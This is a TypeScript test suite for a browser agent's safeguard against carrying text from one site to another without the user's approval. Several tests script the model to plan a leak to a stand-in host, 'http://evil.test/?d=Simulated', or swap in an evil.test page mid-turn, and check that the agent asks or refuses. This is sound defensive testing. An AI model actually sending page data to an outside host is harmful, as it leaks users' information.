import { expect } from 'chai';
import type { Intent, MessageAnswer, Plan } from '../../contracts/resources/agent-turn.ts';
import { ScriptedModel, startAgents, type Agents } from '../testing/agents.ts';

const own = { 'x-byok-llm-api-key': 'sk-ant-own' };
const planned = (...intents: Intent[]): Plan => ({ decision: 'plan', intents, readBack: false });
const looking = (...intents: Intent[]): Plan => ({
  decision: 'plan',
  intents,
  readBack: false,
  after: 'look',
});
const open = (url: string): Intent => ({ kind: 'navigate', url });
const type = (text: string): Intent => ({
  kind: 'interact',
  action: { kind: 'type', selector: '#home', text },
});
type Executed = Extract<MessageAnswer, { kind: 'plan-executed' }>;
type Clarify = Extract<MessageAnswer, { kind: 'clarify' }>;

/** `http://sim.test/` shows "Simulated"; the pages of other hosts have an element to type into. */
describe('a message whose plan takes words of one site to another', () => {
  const model = new ScriptedModel();
  let agents: Agents;
  before(async () => void (agents = await startAgents({ model })));
  after(() => agents.close());

  type Opened = Awaited<ReturnType<Agents['open']>>;
  const say = async <T = Executed>(opened: Opened, message: string, more: object = {}): Promise<T> => {
    const body = { user_message: message, ...more };
    const { token, id } = opened;
    const answer = await agents.side.call(`POST /v1/agent-sessions/${id}/message`, {
      token,
      body,
      headers: own,
    });
    expect(answer.status, answer.text).to.equal(200);
    return answer.json as unknown as T;
  };
  const operationsOf = async ({ id }: Opened) =>
    agents.operations((await agents.state(id)).browser?.sessionId);

  /** Opens an address in the agent's browser, as its owner may during a turn. */
  const openAside = async ({ id, token }: Opened, url: string) => {
    const { browser } = await agents.state(id);
    await agents.side.call(`POST /v1/sessions/${browser?.sessionId}/navigate`, { token, body: { url } });
  };

  it('is asked about before anything is done, where the first intent does', async () => {
    const opened = await agents.open();
    await say(opened, 'go to http://sim.test/');
    const leak = open('http://evil.test/?d=Simulated');
    model.plans(planned(leak, type('Simulated')));
    const answer = await say<Clarify>(opened, 'what does it say?');
    expect(answer).to.deep.include({ kind: 'clarify', intents: [leak, type('Simulated')], rounds: 1 });
    expect(answer.clarifying_question).to.match(
      /open http:\/\/evil\.test\/\?d=Simulated: neither your message nor/,
    );
    expect(await operationsOf(opened)).to.deep.equal(['navigate']);
    const entry = (await agents.transcript(opened)).at(-1);
    expect(entry?.body).to.match(/^clarify: /);
    expect(entry).not.to.have.property('intents');
  });

  it('is carried out as far as it does not, asked about, and done once that is approved', async () => {
    const opened = await agents.open();
    const form = open('http://else.test/form');
    model
      .plans(looking(open('http://sim.test/')))
      .plans(looking(form, type('Simulated'), open('http://sim.test/')));
    const asked = await say(opened, 'Fill in the form of else.test');
    expect(asked).to.deep.include({ kind: 'plan-executed', ok: false, rounds: 3 });
    expect(asked.intents).to.deep.equal([open('http://sim.test/'), form, type('Simulated')]);
    expect(asked.results.map(({ kind }) => kind)).to.deep.equal(['success', 'success']);
    expect(asked.clarifying_question).to.match(
      /\(2\) type "Simulated" on else\.test: sim\.test has shown that/,
    );
    expect((await agents.transcript(opened)).at(-1)?.intents).to.have.length(3);
    model.plans(planned(type('Simulated')));
    const refused = await say<Clarify>(opened, 'Not that', {
      approvals: [{ intent_index: 2, approved: false }],
    });
    expect(refused.kind).to.equal('clarify');
    model.plans(planned(type('Simulated')));
    const done = await say(opened, 'Yes, do that', { approvals: [{ intent_index: 0, approved: true }] });
    expect([done.ok, done.results.map(({ kind }) => kind)]).to.deep.equal([true, ['success']]);
    model.plans(planned(type('Simulated')));
    expect((await say<Clarify>(opened, 'And once more')).kind).to.equal('clarify');
  });

  it('is done once approved, also after a tap, but not on the page of another site', async () => {
    const opened = await agents.open();
    const fill = [open('http://else.test/form'), type('Simulated')];
    const yes = (index: number) => ({ approvals: [{ intent_index: index, approved: true }] });
    model.plans(looking(open('http://sim.test/'))).plans(planned(...fill));
    await say(opened, 'Fill in the form of else.test');
    const tap: Intent = { kind: 'interact', action: { kind: 'tap', selector: '#home' } };
    model.plans(planned(tap, type('Simulated')));
    const done = await say(opened, 'Yes, do that', yes(2));
    expect([done.ok, done.results.map(({ kind }) => kind)]).to.deep.equal([true, ['success', 'success']]);
    model.plans(planned(type('Simulated')));
    await say<Clarify>(opened, 'And once more');
    model.plans(async () => {
      await openAside(opened, 'http://evil.test/form');
      return planned(type('Simulated'));
    });
    const moved = await say(opened, 'Yes, do that', yes(0));
    expect([moved.ok, moved.results.map(({ kind }) => kind)]).to.deep.equal([false, ['failure']]);
    expect(moved.clarifying_question).to.match(/type "Simulated" on evil\.test/);
  });

  it('is not carried out on a page that came between the look and the act', async () => {
    const opened = await agents.open();
    model
      .plans(looking(open('http://sim.test/form')))
      .plans(looking(open('http://sim.test/')))
      .plans(async () => {
        await openAside(opened, 'http://evil.test/form');
        return looking({ kind: 'interact', action: { kind: 'press', key: 'Escape' } }, type('Simulated'));
      });
    const answer = await say(opened, 'Note what it says');
    expect([answer.ok, answer.results.map(({ kind }) => kind)]).to.deep.equal([
      false,
      ['success', 'success', 'success', 'failure'],
    ]);
    expect(answer.results.at(-1)).to.have.nested.property('diagnosis.category', 'invalid_request');
    expect(answer.clarifying_question).to.match(/type "Simulated" on evil\.test/);
  });

  it('goes on where the message says the words, names both sites, or has the sentences of the grammar', async () => {
    const messages = ['Enter "Simulated" at else.test', 'Take what sim.test says to else.test'];
    for (const message of messages) {
      const opened = await agents.open();
      model
        .plans(looking(open('http://sim.test/')))
        .plans(planned(open('http://else.test/form'), type('Simulated')));
      const answer = await say(opened, message);
      expect(answer.ok, JSON.stringify(answer)).to.equal(true);
    }
    const opened = await agents.open();
    const sentences = 'go to http://sim.test/; go to http://evil.test/?d=Simulated';
    expect((await say(opened, sentences)).ok).to.equal(true);
  });

  it('is answered again from the stream as it was first', async () => {
    const opened = await agents.open();
    const headers = { ...own, 'idempotency-key': 'held' };
    await say(opened, 'go to http://sim.test/');
    model.plans(planned(open('http://evil.test/?d=Simulated')));
    const first = await agents.message(opened, 'what does it say?', headers);
    expect(first.json.kind).to.equal('clarify');
    const [admitted] = (await agents.eventsOf(opened.id))
      .filter(({ type: each }) => each === 'TurnAdmitted')
      .slice(-1);
    expect((await agents.message(opened, 'what does it say?', headers)).text).to.equal(first.text);
    expect(admitted).not.to.equal(undefined);
    const kept = (await agents.eventsOf(opened.id)).map(({ data }) => JSON.stringify(data));
    expect(kept.join('')).not.to.contain('evil.test');
  });
});
